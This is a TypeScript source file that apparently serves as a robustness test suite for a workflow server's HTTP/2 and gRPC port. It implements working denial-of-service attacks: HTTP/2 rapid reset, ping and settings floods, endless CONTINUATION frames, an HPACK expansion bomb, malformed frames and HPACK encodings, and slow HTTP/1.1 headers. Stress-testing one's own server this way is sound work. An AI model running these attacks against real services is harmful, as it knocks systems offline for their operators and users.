/** Attacks below any request: streams, frames and headers that wear a server out. */
import type { Attack, Target } from "./attack.ts";
import { inParallel } from "./attack.ts";
import {
  Connection,
  endHeaders,
  endStream,
  frame,
  get,
  greeting,
  header,
  post,
  preface,
  settings,
} from "./wire.ts";

const cancel = Buffer.from([0, 0, 0, 8]);

/** The beginning of a call that the port would answer. */
const head = ({ kind }: Target): Buffer =>
  kind === "http" ? get("/v1/workflows") : post("/orchy.v1.WorkerService/Poll", "application/grpc");
const headFlags = ({ kind }: Target) => (kind === "http" ? endStream | endHeaders : endHeaders);

async function greeted(target: Target, reads = true): Promise<Connection> {
  const connection = await Connection.open(target.port, reads);
  await connection.send(greeting());
  return connection;
}

/** Calls that are taken back at once; who is cut off comes again. */
async function resets(target: Target, count: number): Promise<void> {
  const perWrite = 500;
  for (let sent = 0; sent < count; ) {
    const connection = await greeted(target);
    for (let id = 1; sent < count && !connection.isClosed; sent += perWrite) {
      const frames: Buffer[] = [];
      for (let n = 0; n < perWrite; n++, id += 2) {
        frames.push(frame("headers", id, head(target), headFlags(target)));
        frames.push(frame("reset", id, cancel));
      }
      await connection.send(...frames);
    }
    connection.destroy();
  }
}

/** The same frames over and over on one connection, for as long as it is let. */
function flood(frames: (target: Target) => readonly Buffer[], reads = true): Attack {
  return async (target) => {
    const connection = await greeted(target, reads);
    const batch = Buffer.concat(Array.from({ length: 500 }, () => frames(target)).flat());
    for (let bytes = 0; bytes < 8_000_000 && !connection.isClosed; bytes += batch.length) {
      await Promise.race([connection.send(batch), Bun.sleep(500)]);
    }
    connection.destroy();
  };
}

/** After the beginning of a head that never ends. */
function endlessHead(part: Buffer): Attack {
  return async (target) => {
    const connection = await greeted(target);
    await connection.send(frame("headers", 1, head(target)));
    const batch = Array.from({ length: 500 }, () => frame("continuation", 1, part));
    for (let n = 0; n < 40 && !connection.isClosed; n++) await connection.send(...batch);
    connection.destroy();
  };
}

const repeated = (count: number, make: (n: number) => Buffer) =>
  Buffer.concat(Array.from({ length: count }, (_, n) => make(n)));

/** Heads that are larger than they look: their letters are in the table of the connection. */
const expandingHeads: Attack = async (target) => {
  const connection = await greeted(target);
  const first = Buffer.concat([head(target), header("x", "y".repeat(3_900), true)]);
  await connection.send(frame("headers", 1, first, headFlags(target)));
  const newest = 0x80 | 62;
  const bomb = Buffer.concat([head(target), Buffer.alloc(15_000, newest)]);
  for (let id = 3; id < 1_000 && !connection.isClosed; id += 2) {
    await connection.send(frame("headers", id, bomb, headFlags(target)));
  }
  connection.destroy();
};

const largeHeads: Attack = async (target) => {
  const many = repeated(400, (n) => header(`x-${n}`, "y"));
  const large = header("x", "y".repeat(15_000));
  for (const part of [many, large]) {
    const connection = await greeted(target);
    await connection.send(frame("headers", 1, head(target), headFlags(target) & endStream));
    for (let n = 0; n < 50; n++) await connection.send(frame("continuation", 1, part));
    await connection.send(frame("continuation", 1, part, endHeaders));
    connection.destroy();
  }
};

const http1Heads: Attack = async ({ port }) => {
  for (const [start, part] of [
    ["GET / HTTP/1.1\r\n", `x: ${"y".repeat(1_000)}\r\n`],
    ["GET /", "y".repeat(1_000)],
    ["GET / HTTP/1.1\r\n", "x: y\r\n"],
  ] as const) {
    const connection = await Connection.open(port);
    await connection.send(Buffer.from(start));
    const batch = Buffer.from(part.repeat(200));
    for (let n = 0; n < 50 && !connection.isClosed; n++) await connection.send(batch);
    connection.destroy();
  }
};

const random = (bytes: number) => Buffer.from(crypto.getRandomValues(new Uint8Array(bytes)));
const tooLong = Buffer.from([0xff, 0xff, 0xff, 0, 0, 0, 0, 0, 1]);

/** What no peer may send: one connection each. */
const malformed = (target: Target): readonly Buffer[] => {
  const flags = headFlags(target);
  return [
    frame("continuation", 1, head(target), endHeaders),
    Buffer.concat([tooLong, Buffer.alloc(100_000)]),
    frame("ping", 0, Buffer.alloc(7)),
    frame("settings", 0, Buffer.alloc(5)),
    frame("settings", 0, Buffer.from([0, 4, 0xff, 0xff, 0xff, 0xff])),
    frame("settings", 0, Buffer.from([0, 5, 0, 0, 0, 1])),
    frame("reset", 99, Buffer.alloc(4)),
    frame("data", 0, Buffer.alloc(4)),
    frame("window", 0, Buffer.alloc(4)),
    frame("window", 0, Buffer.from([0x7f, 0xff, 0xff, 0xff])),
    frame("headers", 2, head(target), flags),
    // Padding that is longer than the frame.
    frame(
      "headers",
      1,
      Buffer.concat([Buffer.from([255]), head(target).subarray(0, 40)]),
      flags | 8,
    ),
    random(20_000),
    // HPACK: an index of nothing, one beyond the table, integers and lengths that do not end, a table
    // of 4 GiB, Huffman code that is none.
    ...[
      [0x80],
      [0xff, 0x49],
      [0xff, ...Array(9).fill(0xff), 0x7f],
      [0, 0x7f, 0xff, 0xff, 0xff, 0xff, 0x0f],
      [0x3f, 0xff, 0xff, 0xff, 0xff, 0x0f],
      [0, 0x85, 0xff, 0xff, 0xff, 0xff, 0xff, 1, 0x61],
    ].map((block) => frame("headers", 1, Buffer.from(block), flags)),
    frame("headers", 1, random(1_000), flags),
  ];
};

const wrongFrames: Attack = async (target) => {
  await inParallel(20, async () => {
    for (const bytes of malformed(target)) {
      const connection = await greeted(target);
      await connection.send(bytes);
      connection.destroy();
    }
    for (const start of [
      random(5_000),
      preface.subarray(0, 10),
      Buffer.from("PRI * HTTP/2.0\r\n\r\nXX"),
    ]) {
      const connection = await Connection.open(target.port);
      await connection.send(start);
      connection.destroy();
    }
  });
};

const emptyData: Attack = async (target) => {
  const connection = await greeted(target);
  const path = target.kind === "http" ? "/v1/executions" : "/orchy.v1.WorkerService/Poll";
  const type = target.kind === "http" ? "application/json" : "application/grpc";
  await connection.send(frame("headers", 1, post(path, type), endHeaders));
  const batch = Array.from({ length: 1_000 }, () => frame("data", 1));
  for (let n = 0; n < 300 && !connection.isClosed; n++) await connection.send(...batch);
  connection.destroy();
};

const ping = () => [frame("ping", 0, Buffer.alloc(8))];
const setting = () => [settings()];

export const frameAttacks: Readonly<Record<string, Attack>> = {
  "100,000 calls taken back, on one connection": (target) => resets(target, 100_000),
  "100,000 calls taken back, on 20 connections": (target) =>
    inParallel(20, () => resets(target, 5_000)),
  "a flood of pings": flood(ping),
  "a flood of pings, no answer read": flood(ping, false),
  "a flood of settings": flood(setting),
  "a flood of settings, no answer read": flood(setting, false),
  "a head without an end": endlessHead(header("x", "y".repeat(1_000))),
  "a head without an end, of empty frames": endlessHead(Buffer.alloc(0)),
  "a body of empty frames": emptyData,
  "heads that expand": expandingHeads,
  "heads that are large, and of many headers": largeHeads,
  "frames and codes that are wrong": wrongFrames,
};

export const http1Attacks: Readonly<Record<string, Attack>> = {
  "heads of HTTP/1.1 without an end": http1Heads,
};
